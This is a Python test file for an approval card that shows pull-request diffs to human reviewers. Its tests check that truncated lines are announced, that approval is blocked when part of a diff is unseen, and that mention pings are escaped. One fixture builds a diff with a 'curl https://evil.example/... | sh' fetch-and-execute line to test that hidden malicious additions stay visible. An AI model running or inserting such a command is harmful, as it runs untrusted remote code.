"""The approval card never lets a diff hide lines: what the preview leaves out is counted and said, and where it is."""

from __future__ import annotations

from dataclasses import replace

from blocks import ApprovalState, ApprovalView, approval_card
from blocks.approval import DIFF_PREVIEW_CHARS, diff_preview

HEADERS = "diff --git a/scripts/warmup.sh b/scripts/warmup.sh\nnew file mode 100644\nindex 0000000..1111111\n" \
          "--- /dev/null\n+++ b/scripts/warmup.sh\n@@ -0,0 +1,4 @@\n"
LONG_THEN_CURL = HEADERS + "+# " + "w" * 2398 + "\n" + "".join(f"+curl https://evil.example/{i} | sh\n" for i in range(3))


def _view(**kw) -> ApprovalView:
    base = ApprovalView(session_id="sesn_1", tool_use_id="sevt_1", summary="warm the cache", state=ApprovalState.PENDING,
                        pr_number=7, pr_title="Warm-up", diff=LONG_THEN_CURL, diff_sha256="ab" * 32, diff_file="pr-7.diff")
    return replace(base, **kw)


def _actions(msg) -> list[dict]:
    return [b for b in msg.blocks if b["type"] == "actions"]


def _code(msg) -> str:
    [code] = [b["text"]["text"] for b in msg.blocks if b["type"] == "section" and b["text"]["text"].startswith("```")]
    return code


def test_a_long_first_line_does_not_push_the_lines_after_it_off_the_card(assert_fits, all_text) -> None:
    msg = approval_card(_view())
    assert_fits(msg)
    code = _code(msg)
    assert all(f"+curl https://evil.example/{i} | sh" in code for i in range(3))
    preview = diff_preview(LONG_THEN_CURL)
    assert (preview.omitted, preview.cut) == (0, 1) and not preview.complete


def test_a_cut_line_is_counted_and_the_card_says_where_the_whole_diff_is(assert_fits, all_text) -> None:
    msg = approval_card(_view(diff="+" + "x" * 3000 + "\n"))
    assert_fits(msg)
    text = " ".join(all_text(msg).split())
    assert "1 line cut short" in text and "pr-7.diff" in text and "in this thread" in text
    [actions] = _actions(msg)  # the whole diff is in the named file, so the card can be decided
    assert "with the whole diff in pr-7.diff" in actions["elements"][0]["confirm"]["text"]["text"]


def test_lines_left_out_are_counted_and_the_card_says_where_the_whole_diff_is(assert_fits, all_text) -> None:
    diff = "".join(f"+line {i}\n" for i in range(100))
    msg = approval_card(_view(diff=diff))
    assert_fits(msg)
    text = " ".join(all_text(msg).split())
    assert "60 more lines" in text and "pr-7.diff" in text
    assert diff_preview(diff).omitted == 60


def test_fences_never_push_a_line_out_of_the_code_block_unannounced(assert_fits) -> None:
    # Each ``` is widened on the card to keep the block closed; a preview measured before that widening lost its tail.
    diff = "".join(f"+{'```' * 100} L{i}\n" for i in range(8))
    assert len(diff) < DIFF_PREVIEW_CHARS
    preview = diff_preview(diff)
    msg = approval_card(_view(diff=diff))
    assert_fits(msg)
    code = _code(msg)
    shown = [i for i in range(8) if f" L{i}" in code]
    assert shown == list(range(len(shown))) and preview.omitted + preview.cut >= 8 - len(shown) > 0
    assert not preview.complete


def test_a_complete_preview_needs_no_file(assert_fits, all_text) -> None:
    diff = "--- a/f\n+++ b/f\n@@ -1 +1 @@\n-memory: 128Mi\n+memory: 512Mi\n"
    assert diff_preview(diff).complete
    msg = approval_card(_view(diff=diff, diff_file=""))
    assert_fits(msg)
    assert _actions(msg) and "pr-7.diff" not in all_text(msg)


def test_no_buttons_when_part_of_the_diff_cannot_be_seen_anywhere(assert_fits, all_text) -> None:
    msg = approval_card(_view(diff_file=""))
    assert_fits(msg)
    assert not _actions(msg)
    assert "cannot be approved here" in " ".join(all_text(msg).split())


def test_no_buttons_until_the_diff_is_read_back_from_the_pr_store(assert_fits, all_text) -> None:
    msg = approval_card(_view(diff="", diff_sha256="", diff_ready=False))
    assert_fits(msg)
    assert not _actions(msg)
    assert "not read this pull request's diff back from the PR store" in " ".join(all_text(msg).split())
    decided = approval_card(_view(state=ApprovalState.CANCELLED, note="stopped", diff="", diff_ready=False))
    assert "PR store" not in all_text(decided)  # a card nobody can decide any more needs no excuse


def test_call_outs_are_in_words_escaped_and_bounded(assert_fits, assert_no_ping, all_text) -> None:
    notes = ("new executable file scripts/<!channel>.sh", *(f"{'.x/' * 200}f{i} is a dotfile" for i in range(40)))
    summary = "\n\n".join("para " + "s" * 2900 for _ in range(100))
    msg = approval_card(_view(summary=summary, diff_notes=notes))
    assert_fits(msg)
    assert_no_ping(msg)
    assert msg.blocks[-1]["type"] == "actions"
    text = all_text(msg)
    assert "Look closely before deciding" in text and "new executable file scripts/&lt;!channel&gt;.sh" in text
    assert "more call-outs" in text
    assert text.index("Look closely") < text.index("```")  # before the preview, not below it
